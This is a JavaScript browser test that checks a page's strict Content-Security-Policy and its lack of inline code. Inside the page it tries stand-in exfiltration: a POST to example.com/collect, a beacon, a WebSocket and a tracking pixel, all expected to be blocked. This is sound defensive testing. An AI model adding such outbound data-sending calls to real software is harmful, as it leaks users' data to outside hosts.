// Privacy and the Content-Security-Policy, served over http://127.0.0.1: the built index.html
// carries a strict CSP meta tag and no inline script, style or handler; the page's own
// requests stay on the server; and fetch, images, WebSockets and beacons to anywhere are
// blocked by the browser before any request is made. Needs the real module only to start.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { cspViolations, indexPath, openPage, problems, useBrowser } from './lib/page.mjs';

const env = useBrowser();

test('index.html has a strict CSP and no inline script, style or event handler', () => {
  const html = readFileSync(indexPath, 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
  assert.ok(meta, 'a CSP meta tag');
  const policy = Object.fromEntries(meta[1].split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
  assert.deepEqual(policy['default-src'], ["'none'"]);
  assert.deepEqual(policy['connect-src'], ["'none'"]);
  assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(policy['style-src'], ["'self'"]);
  assert.deepEqual(policy['img-src'], ["'self'"]);
  assert.deepEqual(policy['form-action'], ["'none'"]);
  assert.ok(!/'unsafe-inline'|'unsafe-eval'|https?:|\*/.test(meta[1]), 'nothing looser');
  const withoutComments = html.replace(/<!--[\s\S]*?-->/g, '');
  for (const tag of withoutComments.match(/<script\b[^>]*>/g)) assert.match(tag, /\ssrc="[\w./-]+"/, `external: ${tag}`);
  assert.ok(!/<script\b[^>]*>[^<]+<\/script>/.test(withoutComments), 'no inline script');
  assert.ok(!/<style\b/.test(withoutComments), 'no style element');
  assert.ok(!/\sstyle="/.test(withoutComments), 'no style attribute');
  assert.ok(!/\son[a-z]+="/.test(withoutComments), 'no inline event handler');
  assert.ok(!/(src|href)="(https?:)?\/\//.test(withoutComments), 'no address outside the page');
});

test('the page only requests its own files, and the CSP blocks any connection', { timeout: 60000 }, async () => {
  const { page, log, context } = await openPage(env.browser, env.server.url);
  try {
    assert.ok(log.requests.every((url) => url.startsWith(env.server.url)), log.requests.join('\n'));
    assert.deepEqual(await cspViolations(page), [], 'loading the page needs no exception');
    assert.deepEqual(problems(log), []);

    const outcome = await page.evaluate(async (own) => {
      const results = {};
      try {
        await fetch(own);
        results.ownOrigin = 'fetched';
      } catch {
        results.ownOrigin = 'blocked';
      }
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'data' });
        results.remote = 'fetched';
      } catch {
        results.remote = 'blocked';
      }
      navigator.sendBeacon('https://example.com/beacon', 'data'); // queued; the CSP refuses it
      results.socket = await new Promise((resolve) => {
        try {
          const socket = new WebSocket('wss://example.com/socket');
          socket.onopen = () => resolve('opened');
          socket.onerror = () => resolve('blocked');
        } catch {
          resolve('blocked');
        }
      });
      results.image = await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('blocked');
        image.src = 'https://example.com/pixel.png';
      });
      await new Promise((resolve) => { setTimeout(resolve, 200); });
      return results;
    }, `${env.server.url}index.html`);
    assert.deepEqual(outcome, { ownOrigin: 'blocked', remote: 'blocked', socket: 'blocked', image: 'blocked' });
    const violations = await cspViolations(page);
    for (const [directive, target] of [['connect-src', 'index.html'], ['connect-src', '/collect'], ['connect-src', '/beacon'],
      ['connect-src', 'socket'], ['img-src', 'pixel.png']]) {
      assert.ok(violations.some((v) => v.startsWith(directive) && v.includes(target)),
        `${directive} refused ${target}: ${violations.join(', ')}`);
    }
    // Chromium may announce a refused image as a request; it then fails as blocked by the CSP,
    // before the network. Nothing else was even attempted.
    const attempted = log.requests.filter((url) => url.includes('example.com'));
    const refused = log.failed.filter((entry) => /csp/i.test(entry.error ?? '')).map((entry) => entry.url);
    assert.deepEqual(attempted.filter((url) => !refused.includes(url)), [], JSON.stringify(log.failed));
  } finally {
    await context.close();
  }
});
